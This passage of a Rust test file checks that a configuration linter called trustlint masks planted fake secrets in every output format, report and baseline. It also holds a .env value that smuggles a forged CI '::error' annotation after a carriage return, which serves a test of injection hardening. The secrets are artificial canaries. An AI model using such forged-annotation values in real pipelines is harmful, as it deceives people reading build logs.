        d,
        "spa.trusted-app.yaml",
        "ApplicationUri: com.example/spa\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://spa.example.com/cb\nScope: read\n",
    );
    write(
        d,
        "web/appsettings.json",
        format!(
            "{{\n  \"OpenIdConnect\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"com.example/web\",\n    \"RedirectUri\": \"https://web.example.com/{}/cb\",\n    \"PostLogoutRedirectUri\": \"https://web.example.com/out#access_token={}\",\n    \"Scope\": \"openid read {}\",\n    \"ResponseType\": \"id_token token {}\"\n  }}\n}}\n",
            s("a reference token in a RedirectUri"),
            jwt_with(
                payload_jti,
                &s("a JWT in a PostLogoutRedirectUri fragment (signature)")
            ),
            s("a reference token in Scope"),
            s("a reference token in ResponseType"),
        ),
    );
    write(
        d,
        "other/appsettings.json",
        format!(
            "{{\n  \"Erp\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"{}\"\n  }}\n}}\n",
            s("a reference token as ClientId"),
        ),
    );
    write(
        d,
        "svc/.env",
        format!(
            "ERP_AUTHORITY=https://acme.my.erp.net/id\nERP_CLIENT_ID={}\nERP_CLIENT_SECRET=com.example/web\n",
            s("a secret swapped"),
        ),
    );
    write(
        d,
        "spa/package.json",
        r#"{"dependencies": {"react": "19.0.0", "vite": "7.0.0"}}"#,
    );
    write(
        d,
        "spa/.env.production",
        format!(
            "VITE_OIDC_CLIENT_ID=com.example/spa\n# VITE_OIDC_CLIENT_SECRET={}\nVITE_OIDC_CLIENT_SECRET={}\nexport\tVITE_API_SECRET={}\nVITE_ERP_PASSWORD=Qk8vR3xZ\\\n{}\n",
            s("a commented-out .env"),
            s("a live .env"),
            s("an `export"),
            s("a .env backslash"),
        ),
    );
    write(
        d,
        "spa/auth.yaml",
        format!(
            "oidc:\n  authority: https://acme.my.erp.net/id\n  client_id: com.example/spa\n  # client_secret: {}\n  client_secret: {}\n  description: &s {}\n  api_secret: *s\n  extra: &base {{ note: {} }}\n  client_password: Pz7kQ2wLx9\nmore:\n  client_secret:\n    <<: *base\n",
            s("a commented-out YAML"),
            s("a live YAML"),
            s("a YAML anchor reached by an alias"),
            s("a YAML anchor reached by a merge"),
        ),
    );
    write(
        d,
        "spa/src/oidc.ts",
        format!(
            "export const settings = {{\n  authority: 'https://acme.my.erp.net/id',\n  client_id: 'com.example/spa',\n  signingKey: `-----BEGIN PRIVATE KEY-----\n{}\n{}\n-----END PRIVATE KEY-----`,\n  headers: {{ Authorization: 'Bearer ' + '{}' }},\n  clientSecret: 'abc' +\n    '{}',\n}};\n",
            s("a PEM key's first"),
            s("a PEM key's second"),
            s("a reference token after"),
            s("the second half"),
        ),
    );
    write(
        d,
        "trustlint.toml",
        format!(
            "# api_token = \"{}\"\n[[ignore]]\nrule = \"TA201\"\npath = \"nowhere/*.yaml\"\nreason = \"an entry that matches nothing\"\n",
            s("a commented-out trustlint.toml"),
        ),
    );
    canaries
}

/// Fails unless the findings next to the leak paths were reported, so that a canary that
/// went unshown does not pass for one that was masked.
fn assert_leak_paths_checked(output: &Output) {
    for rule in [
        "CF101", "CF102", "CF103", "CF201", "CF202", "CF203", "CF204", "CF206", "TA302", "TL002",
    ] {
        assert!(
            output.text.contains(rule),
            "{}: {rule} missing, so a leak path went unchecked:\n{}",
            output.what,
            output.text
        );
    }
}

/// Fails when a canary, its first 12 characters or any 8-character piece of it is in the
/// output (the pieces include the first 12 characters; both are named for the review).
fn assert_no_leak(output: &Output, canaries: &[Canary]) {
    for canary in canaries {
        let first12: String = canary.secret.chars().take(12).collect();
        assert!(
            !output.text.contains(&first12),
            "{}: the first 12 characters of {} leak:\n{}",
            output.what,
            canary.name,
            output.text
        );
    }
    assert_no_canary(output, canaries);
}

#[test]
fn leak_paths_show_no_canary_in_any_format_or_file() {
    let dir = Project::new();
    let all = plant_leak_paths(dir.path());
    let reports = Project::new();
    for format in FORMATS {
        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
        assert_eq!(out.code, Some(1), "{}: {}", out.what, out.text);
        assert_leak_paths_checked(&out);
        assert_no_leak(&out, &all);
        let path = reports.path().join(format!("report.{format}"));
        let out = trustlint(
            dir.path(),
            &[
                "check",
                "--format",
                format,
                "--statistics",
                "--color",
                "always",
                "--fail-on",
                "info",
                "-o",
                path.to_str().unwrap(),
                ".",
            ],
        );
        let out = with_file(out, &path);
        assert_leak_paths_checked(&out);
        assert_no_leak(&out, &all);
    }
}

#[test]
fn leak_paths_leave_no_canary_in_baselines() {
    let dir = Project::new();
    let all = plant_leak_paths(dir.path());
    let baseline = dir.path().join("baseline.json");
    let out = trustlint(
        dir.path(),
        &["check", "--write-baseline", baseline.to_str().unwrap(), "."],
    );
    assert_eq!(out.code, Some(0), "{}", out.text);
    let out = with_file(out, &baseline);
    assert!(out.text.contains("CF102"), "{}", out.text);
    assert_no_leak(&out, &all);
    let out = trustlint(
        dir.path(),
        &[
            "check",
            "--baseline",
            baseline.to_str().unwrap(),
            "--color",
            "always",
            ".",
        ],
    );
    assert_no_leak(&out, &all);
}

/// The leak paths a second review found (after the first fixes): a Base64 secret swapped
/// into a client id, a token cut to 40 characters in an enumeration's message, an alias of a
/// credential in another attribute, URLs that do not parse or carry a credential in an odd
/// shape, a message cut in the middle of a secret, JSON escapes, a value of
/// `trustlint.toml`, and a token as a file name.
fn plant_review_paths(d: &Path) -> Vec<Canary> {
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    let canaries = vec![
        c(
            "a Base64 secret swapped into the client id",
            "Qm9vK2xLq7Zt/Wv3Rn8Bc5Hd1Jf+Xa4Mk==",
        ),
        c(
            "a reference token as ClientType",
            &reference_token("5199aa3e71c0d24b"),
        ),
        c(
            "an anchored hash used as ClientType",
            "Zq7vQw3Rt8Lm2Xk9Bn4Hs6Jd",
        ),
        c(
            "a password in a URL that does not parse",
            "Ru7mXq2Vz9Lk4Wt8",
        ),
        c("a token after `token:` in a query", "Pq2mZ7xLw9Kt4Rv8"),
        c("a password cut by the message length", "Cu7tPw3Lq9Zx2Vm8"),
        c("a password written with JSON escapes", "Js0nEsc4Qz7Lm2Vw"),
        c("a trustlint.toml value", "Tv8aQz3Lm7Wx2Kp9"),
        c(
            "a reference token as a file name",
            &reference_token("0f1e2d3c4b5a6978"),
        ),
    ];
    let s = |start: &str| named(&canaries, start);
    write(
        d,
        "web.trusted-app.yaml",
        "ApplicationUri: com.example/web\nClientType: Confidential\nAppType: WebApp\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/signin-oidc\nImpersonateLogoutUrl: https://web.example.com/signed-out\nScope: read\n",
    );
    write(
        d,
        "enum.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/enum\nClientType: {}\nScope: read\n",
            s("a reference token as ClientType"),
        ),
    );
    write(
        d,
        "alias.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/alias\nApplicationSecretHash: &h {}\nClientType: *h\nSystemUserAllowed: true\nSystemUser: svc.alias\nScope: read\n",
            s("an anchored hash"),
        ),
    );
    write(
        d,
        "svc/.env",
        format!(
            "ERP_AUTHORITY=https://acme.my.erp.net/id\nERP_CLIENT_ID={}\nERP_CLIENT_SECRET=com.example/web\n",
            s("a Base64 secret"),
        ),
    );
    write(
        d,
        "web/appsettings.json",
        format!(
            "{{\n  \"OpenIdConnect\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"com.example/web\",\n    \"RedirectUri\": \"https://web.example.com:444444/signin-oidc?client_secret={}\", \"Scope\": \"openid read\",\n    \"PostLogoutRedirectUri\": \"https://web.example.com/out?token:{}&state=1\"\n  }}\n}}\n",
            s("a password in a URL"),
            s("a token after"),
        ),
    );
    write(
        d,
        "tools/oidc.json",
        format!(
            "{{\n  \"authority\": \"https://acme.my.erp.net/id\",\n  \"client_id\": \"com.example/web\",\n  \"redirect_uri\": \"https://svc:{}@web.example.com:444444/{}\",\n  \"post_logout_redirect_uri\": \"https:\\/\\/svc:{}@web.example.com\\/x\"\n}}\n",
            s("a password cut"),
            "a".repeat(600),
            s("a password written"),
        ),
    );
    write(
        d,
        "trustlint.toml",
        format!("secret-rotation-days = \"{} x\"\n", s("a trustlint.toml")),
    );
    write(
        d,
        format!("{}.trusted-app.yaml", s("a reference token as a file")),
        "ApplicationUri: com.example/named\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: http://named.example.com/cb\nScope: read\n",
    );
    canaries
}

#[test]
fn review_paths_show_no_canary_in_any_format() {
    let dir = Project::new();
    let all = plant_review_paths(dir.path());
    for format in FORMATS {
        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
        for rule in ["CF201", "CF202", "CF203", "TA105", "TA201", "TL004"] {
            assert!(
                out.text.contains(rule),
                "{}: {rule} missing, so a leak path went unchecked:\n{}",
                out.what,
                out.text
            );
        }
        assert_no_leak(&out, &all);
    }
}

#[test]
fn a_lone_carriage_return_in_a_value_cannot_start_a_line() {
    let dir = Project::new();
    let d = dir.path();
    write(
        d,
        "api/.env",
        "OIDC_AUTHORITY=https://acme.my.erp.net/id\nOIDC_CLIENT_ID=com.example/zz\r::error file=web.trusted-app.yaml,line=1::FORGED\n",
    );
    write(
        d,
        "web.trusted-app.yaml",
        "ApplicationUri: com.example/web\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/cb\nScope: read\n",
    );
    for format in FORMATS {
        let out = trustlint(d, &["check", "--format", format, "."]);
        assert!(out.text.contains("CF201"), "{}: {}", out.what, out.text);
        for line in out.text.split(['\n', '\r']) {
            assert!(
                !line.trim_start().starts_with("::error file=web"),
                "{}: a forged line:\n{}",
                out.what,
                out.text
            );
        }
    }
}

#[test]
fn masking_leaves_ordinary_values_readable() {
    // The net over messages and the snippet masks must not eat what is no secret: a
    // reference to the environment, a client id that a token setting repeats, a boolean.
    let dir = Project::new();
    let d = dir.path();
    write(
        d,
        "web.trusted-app.yaml",
        "ApplicationUri: com.example/web\nClientType: Confidential\nAppType: WebApp\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/signin-oidc\nScope: read\n",
    );
    write(
        d,
        "api/.env",
        "OIDC_AUTHORITY=https://acme.my.erp.net/id\nOIDC_CLIENT_ID=com.example/web\nOIDC_CLIENT_SECRET=Lit3ralQz7Lm2Wx9\n",
    );
    write(
        d,
        "api2/appsettings.json",
        "{\n  \"Erp\": {\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientId\": \"com.example/web-api\",\n    \"SaveTokens\": true,\n    \"TokenAudience\": \"com.example/web-api\",\n    \"ClientSecret\": \"${ERP_CLIENT_SECRET}\"\n  }\n}\n",
    );
    let out = trustlint(d, &["check", "."]);
    assert!(out.text.contains("CF104"), "{}", out.text);
    assert!(
        out.text.contains("${ERP_CLIENT_SECRET}"),
        "the help's example is gone:\n{}",
        out.text
    );
    assert!(
        out.text.contains("client id `com.example/web-api`"),
        "the wrong client id is not shown:\n{}",
        out.text
    );
    assert!(out.text.contains("\"SaveTokens\": true,"), "{}", out.text);
    assert!(!out.text.contains("Lit3ralQz7"), "{}", out.text);
}

/// The leak paths of the third look (after the second round of fixes): a percent-encoded
/// token in a URL, a secret repeated in another field, a concatenation on one line, URLs
/// with a password in a comment or a call, quoted connection-string passwords and Azure
/// keys, and a YAML doubled quote.
fn plant_third_paths(d: &Path) -> Vec<Canary> {
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    let canaries = vec![
        c("a percent-encoded reference token", "8e3a7c1f0b9d2e4a"),
        c("a secret repeated in Description", "Rp1aQz7Lm2Vx9Wk4"),
        c("a concatenation on one line", "Js3aWq8Lz2Xm7Vk5"),
        c("a URL password in a .env comment", "Ur5aQz8Lm3Vx7Wk2"),
        c("a URL password in a call", "Ur5cWq3Lz8Xm2Vk9"),
        c("a quoted connection-string password", "Db7mQx2Lz9Wk4"),
        c(
            "an Azure account key",
            "Ak4mQz7Lm2Vx9Wk3Rt8Hn6Jd1Fs5Gp0Ua3Yc7Xe9Mk2Lp4==",
        ),
        c("a YAML doubled quote", "Yq4aWz8Lm3Vx7Kt2"),
    ];
    let s = |start: &str| named(&canaries, start);
    write(
        d,
        "spa.trusted-app.yaml",
        "ApplicationUri: com.example/spa\nClientType: Public\nAppType: Spa\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://spa.example.com/cb\nImpersonateLogoutUrl: https://spa.example.com/out\nScope: read\n",
    );
    write(
        d,
        "spa/package.json",
        r#"{"dependencies": {"react": "19.0.0", "vite": "7.0.0"}}"#,
    );
    write(
        d,
        "spa/oidc.json",
        format!(
            "{{\n  \"authority\": \"https://acme.my.erp.net/id\",\n  \"client_id\": \"com.example/spa\",\n  \"redirect_uri\": \"https://spa.example.com/%65nrt_{}/cb\",\n  \"client_secret\": \"{}\",\n  \"description\": \"backup of {}\"\n}}\n",
            s("a percent-encoded").repeat(4),
            s("a secret repeated"),
            s("a secret repeated"),
        ),
    );
    write(
        d,
        "spa/src/oidc.ts",
        format!(
            "export const settings = {{\n  authority: 'https://acme.my.erp.net/id',\n  client_id: 'com.example/spa',\n  clientSecret: \"abc\" + \"{}\",\n  api: new Client(\"https://svc:{}@api.example.com/\"),\n  client_password: \"Pz7kQ2wLx9\",\n}};\n",
            s("a concatenation"),
            s("a URL password in a call"),
        ),
    );
    write(
        d,
        "api/.env",
        format!(
            "ERP_AUTHORITY=https://acme.my.erp.net/id\nERP_CLIENT_ID=com.example/spa\n# DATABASE_URL=postgres://app:{}@db.internal:5432/app\nERP_CLIENT_SECRET=Qz7vR2mL9xTqWp4K\nSQL=Server=db;User Id=app;Password=\"{};x\";\nOIDC_CLIENT_SECRET=Wq8Lm3Vx7Kt2Zp9Y\nSTORAGE=DefaultEndpointsProtocol=https;AccountName=erp;AccountKey={};EndpointSuffix=core.windows.net\n",
            s("a URL password in a .env"),
            s("a quoted connection"),
            s("an Azure account key"),
        ),
    );
    write(
        d,
        "spa/auth.yaml",
        format!(
            "oidc:\n  authority: https://acme.my.erp.net/id\n  client_id: com.example/spa\n  # client_secret: 'ab''{}'\n  client_secret: Yl2vN7kQz5Wm8Lx3\n",
            s("a YAML doubled"),
        ),
    );
    canaries
}

#[test]
fn third_paths_show_no_canary_in_any_format() {
    let dir = Project::new();
    let all = plant_third_paths(dir.path());
    for format in FORMATS {
        let out = trustlint(dir.path(), &["check", "--format", format, "."]);
        for rule in ["CF101", "CF202", "CF209"] {
            assert!(
                out.text.contains(rule),
                "{}: {rule} missing, so a leak path went unchecked:\n{}",
                out.what,
                out.text
            );
        }
        assert_no_leak(&out, &all);
    }
}

#[test]
fn the_bundled_fixtures_keep_ordinary_text_readable() {
    // Over the whole fixture tree at once (masks of one file must not spread to others):
    // no message quotes a `<redacted: ...>` value, and ordinary lines stay readable.
    let root = support::repo_root();
    let out = trustlint(root, &["check", "--format", "concise", "fixtures"]);
    assert!(out.text.contains("TA302"), "{}", out.text);
    assert!(
        !out.text.contains("<redacted"),
        "a message lost an ordinary value:\n{}",
        out.text
    );
    let out = trustlint(root, &["check", "fixtures"]);
    for kept in [
        "\"applicationName\": \"Sales dashboard\"",
        "ERP_FEED_URL=https://acme.my.erp.net/api/domain/odata/",
        "ClientType: Confidential",
        "- <<: *portal",
    ] {
        assert!(
            out.text.contains(kept),
            "`{kept}` is masked in the snippets:\n{}",
            out.text
        );
    }
}

#[test]
fn a_secret_pasted_as_an_application_uri_is_still_masked() {
    let dir = Project::new();
    let d = dir.path();
    let secret = "Hq7vZ2kLx9Wm4Rt8Bn3Cs6";
    write(
        d,
        "web.trusted-app.yaml",
        format!(
            "ApplicationUri: {secret}\nClientType: Confidential\nAppType: WebApp\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/signin-oidc\nScope: read\n"
        ),
    );
    write(
        d,
        "api/appsettings.json",
        format!(
            "{{\n  \"Erp\": {{\n    \"Authority\": \"https://acme.my.erp.net/id\",\n    \"ClientSecret\": \"{secret}\"\n  }}\n}}\n"
        ),
    );
    let all = [Canary {
        name: "a secret that is also an ApplicationUri",
        secret: secret.to_string(),
    }];
    for format in FORMATS {
        let out = trustlint(d, &["check", "--format", format, "."]);
        assert!(out.text.contains("CF104"), "{}: {}", out.what, out.text);
        assert_no_leak(&out, &all);
    }
}

#[test]
fn pieces_of_a_secret_are_not_quoted_one_by_one() {
    // A hash value cut to 40 characters in a message about another attribute (through an
    // alias), and a passphrase whose words a scope check quotes one finding at a time.
    let dir = Project::new();
    let d = dir.path();
    let hash = "Zq7vQw3Rt8Lm2Xk9Bn4Hs6JdPf5Gc1Vy0Ua8Ek3Mw7Ti";
    let words = ["correct", "horse", "battery", "staple", "quick", "brown"];
    write(
        d,
        "web.trusted-app.yaml",
        format!(
            "ApplicationUri: com.example/web\nApplicationSecretHash: &h {hash}\nAppType: *h\nClientType: Public\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/cb\nScope: read\n"
        ),
    );
    write(
        d,
        "spa/package.json",
        r#"{"dependencies": {"react": "19.0.0"}}"#,
    );
    write(
        d,
        "spa/auth.yaml",
        format!(
            "oidc:\n  authority: https://acme.my.erp.net/id\n  client_id: com.example/web\n  client_secret: &s \"{}\"\n  scope: *s\n",
            words.join(" ")
        ),
    );
    let all = [Canary {
        name: "a hash cut to 40 characters",
        secret: hash.to_string(),
    }];
    for format in FORMATS {
        let out = trustlint(d, &["check", "--format", format, "."]);
        assert!(out.text.contains("TA105"), "{}: {}", out.what, out.text);
        assert!(out.text.contains("CF204"), "{}: {}", out.what, out.text);
        assert_no_leak(&out, &all);
        for word in words {
            assert!(
                !out.text.contains(&format!("`{word}`")),
                "{}: the passphrase's word `{word}` is quoted:\n{}",
                out.what,
                out.text
            );
        }
    }
}

#[test]
fn values_given_to_choose_are_never_repeated_when_they_hold_a_secret() {
    let dir = Project::new();
    let c = |name, secret: &str| Canary {
        name,
        secret: secret.to_string(),
    };
    let all = vec![
        c("a password in --redirect-uri", "Cp7Kx2Wq9Lz4"),
        c("a password in --app-uri", "Cq3Vn8Rt5Hb1"),
        c(
            "a reference token as --app-uri",
            "enrt_9f1c2b7e4a8d3f60b5c9e2a7d4f1b8c3e6a9d2f5b8c1e4a7d0f3b6c9e2a5d8f1",
        ),
        c("a secret in an --answers value", "Ca6Mz1Pw8Ks3Tq"),
        c("a secret as a level in trustlint.toml", "Ct4Lp9Xw2Nr7Hz"),
        c("a secret pasted where a key goes", "Ck8Rv3Qm6Wz1Jt"),
    ];
    let s = |i: usize| all[i].secret.clone();
    let server = [
        "choose",
        "--interactive-ui",
        "yes",
        "--unattended",
        "no",
        "--platform",
        "server",
        "--external-users",
        "no",
        "--sso-only",
        "no",
    ];
    let mut outputs = vec![
        trustlint(
            dir.path(),
            &[
                &server[..],
                &[
                    "--redirect-uri",
                    &format!("https://u:{}@a.example.com/cb", s(0)),
                ],
            ]
            .concat(),
        ),
        trustlint(
            dir.path(),
            &[
                &server[..],
                &["--app-uri", &format!("https://u:{}@a.example.com", s(1))],
            ]
            .concat(),
        ),
        trustlint(dir.path(), &[&server[..], &["--app-uri", &s(2)]].concat()),
    ];
    write(dir.path(), "answers.yaml", format!("platform: {}\n", s(3)));
    outputs.push(trustlint(
        dir.path(),
        &["choose", "--answers", "answers.yaml"],
    ));
    for out in &outputs {
        assert_eq!(out.code, Some(2), "{}: {}", out.what, out.text);
    }
    write(
        dir.path(),
        "trustlint.toml",
        format!("[rules]\nTA105 = \"{}\"\n", s(4)),
    );
    write(
        dir.path(),
        "k.trusted-app.yaml",
        format!("ApplicationUri: com.example/k\n{}: 1\n", s(5)),
    );
    for format in FORMATS {
        outputs.push(trustlint(dir.path(), &["check", "--format", format, "."]));
    }
    for out in &outputs {
        assert_no_canary(out, &all);
    }
}
